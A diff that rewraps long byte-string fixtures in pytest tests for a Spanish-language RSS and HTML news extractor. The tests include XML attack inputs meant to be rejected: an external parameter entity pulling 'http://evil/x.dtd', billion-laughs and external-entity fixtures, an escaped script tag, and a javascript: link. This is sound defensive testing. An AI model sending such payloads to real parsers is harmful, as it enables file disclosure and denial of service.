@@ -84,20 +84,28 @@ def test_html_served_as_feed_is_a_parse_error() -> None:
     with pytest.raises(ParseError, match="la dirección no entrega un feed legible"):
         extract(
             source(),
-            b"<!DOCTYPE html><html><head><title>Inicio</title></head><body><p>Hola</p></body></html>",
+            b"<!DOCTYPE html><html><head><title>Inicio</title>"
+            b"</head><body><p>Hola</p></body></html>",
         )
 
 
 def test_windows_1252_declared_feed_keeps_accents() -> None:
-    body = '<?xml version="1.0" encoding="windows-1252"?><rss version="2.0"><channel><title>x</title><item><title>Temporal en Ñuble y Biobío</title><link>https://x.cl/a</link></item></channel></rss>'.encode(
-        "cp1252"
-    )
+    body = (
+        '<?xml version="1.0" encoding="windows-1252"?><rss version="2.0">'
+        "<channel><title>x</title><item><title>Temporal en Ñuble y Biobío</title>"
+        "<link>https://x.cl/a</link></item></channel></rss>"
+    ).encode("cp1252")
     article = extract(source(), body).articles[0]
     assert article.title == "Temporal en Ñuble y Biobío"
 
 
 def test_entity_in_title_is_unescaped_and_markup_stripped() -> None:
-    body = b'<rss version="2.0"><channel><item><title>Obras &amp; plazos</title><link>https://x.cl/b</link><description>&lt;p&gt;Uno &lt;b&gt;dos&lt;/b&gt;&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description></item></channel></rss>'
+    body = (
+        b'<rss version="2.0"><channel><item><title>Obras &amp; plazos</title>'
+        b"<link>https://x.cl/b</link><description>&lt;p&gt;Uno "
+        b"&lt;b&gt;dos&lt;/b&gt;&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description>"
+        b"</item></channel></rss>"
+    )
     article = extract(source(), body).articles[0]
     assert article.title == "Obras & plazos"
     assert article.summary == "Uno\ndos"
@@ -173,18 +181,25 @@ def test_entity_declarations_are_refused_except_one_character_ones() -> None:
     from tests.faultserver import BILLION_LAUGHS, EXTERNAL_ENTITY
 
     with pytest.raises(
-        ParseError, match="feed rechazado: declara una entidad XML propia \('lol1'\)"
+        ParseError, match=r"feed rechazado: declara una entidad XML propia \('lol1'\)"
     ):
         extract(source(), BILLION_LAUGHS)
     with pytest.raises(ParseError, match="entidad XML externa 'secret'"):
         extract(source(), EXTERNAL_ENTITY)
-    parameter = b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><rss version="2.0"/>'
+    parameter = (
+        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p '
+        b'SYSTEM "http://evil/x.dtd"> %p;]><rss version="2.0"/>'
+    )
     with pytest.raises(ParseError, match="entidad XML externa 'p'"):
         extract(source(), parameter)
     utf16 = BILLION_LAUGHS.decode().encode("utf-16")  # the check reads UTF-16 too
     with pytest.raises(ParseError, match="feed rechazado"):
         extract(source(), utf16)
-    harmless = b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;"> <!ENTITY ndash "&#x2013;">]><rss version="2.0"><channel><item><title>Uno&nbsp;&ndash; dos</title><link>https://x.cl/1</link></item></channel></rss>'
+    harmless = (
+        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;"> <!ENTITY ndash "&#x2013;">]>'
+        b'<rss version="2.0"><channel><item><title>Uno&nbsp;&ndash; dos</title>'
+        b"<link>https://x.cl/1</link></item></channel></rss>"
+    )
     assert extract(source(), harmless).articles[0].title == "Uno – dos"
 
 
@@ -196,14 +211,16 @@ TITLE = "Temporal en Ñuble y Biobío: “alerta” en Curicó"
     ("body", "content_type", "warned"),
     [
         (
-            f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><item><title>{TITLE}</title><link>https://x.cl/1</link></item></channel></rss>'.encode(
+            '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><item>'
+            f"<title>{TITLE}</title><link>https://x.cl/1</link></item></channel></rss>".encode(
                 "cp1252"
             ),
             "application/rss+xml; charset=utf-8",
             True,
         ),
         (
-            f'<?xml version="1.0" encoding="windows-1252"?><rss version="2.0"><channel><item><title>{TITLE}</title><link>https://x.cl/1</link></item></channel></rss>'.encode(),
+            '<?xml version="1.0" encoding="windows-1252"?><rss version="2.0"><channel><item>'
+            f"<title>{TITLE}</title><link>https://x.cl/1</link></item></channel></rss>".encode(),
             "text/xml; charset=windows-1252",
             True,
         ),
@@ -214,7 +231,8 @@ TITLE = "Temporal en Ñuble y Biobío: “alerta” en Curicó"
             False,
         ),
         (
-            f'<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel><item><title>{TITLE}</title><link>https://x.cl/1</link></item></channel></rss>'.encode(
+            '<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel><item>'
+            f"<title>{TITLE}</title><link>https://x.cl/1</link></item></channel></rss>".encode(
                 "utf-16"
             ),
             None,
@@ -277,9 +295,10 @@ def test_pages_are_decoded_by_what_their_bytes_are(
 
 def test_html_listing_with_a_wrong_charset_keeps_accents() -> None:
     selectors = Selectors(item="article", link="a", title="a")
-    body = f'<html><head><meta charset="utf-8"></head><body><article><a href="/n">{TITLE}</a></article></body></html>'.encode(
-        "cp1252"
-    )
+    body = (
+        '<html><head><meta charset="utf-8"></head><body><article>'
+        f'<a href="/n">{TITLE}</a></article></body></html>'
+    ).encode("cp1252")
     result = extract(source("html", selectors), body, "https://x.cl/")
     assert result.articles[0].title == TITLE and "windows-1252" in result.warnings[0]
 
@@ -335,7 +354,8 @@ def test_a_canonical_pointing_at_the_homepage_is_ignored() -> None:
     from agenda.extract import extract_page
 
     page = extract_page(
-        b'<html><head><link rel="canonical" href="https://radio.cl/"></head><body><p>x</p></body></html>',
+        b'<html><head><link rel="canonical" href="https://radio.cl/">'
+        b"</head><body><p>x</p></body></html>",
         "https://radio.cl/nota",
     )
     assert page.canonical_url is None
@@ -345,7 +365,8 @@ def test_discover_feeds_reads_link_alternate() -> None:
     from agenda.extract import discover_feeds
 
     html = (
-        b'<html><head><link rel="alternate" type="application/rss+xml" title="Diario &raquo; Feed" href="/feed/">'
+        b'<html><head><link rel="alternate" type="application/rss+xml" '
+        b'title="Diario &raquo; Feed" href="/feed/">'
         b'<link rel="alternate" type="application/atom+xml" href="https://diario.cl/atom.xml">'
         b'<link rel="alternate" hreflang="en" href="/en/"><link rel="stylesheet" href="/s.css">'
         b'<link rel="alternate" type="application/rss+xml" href="javascript:void(0)"></head></html>'
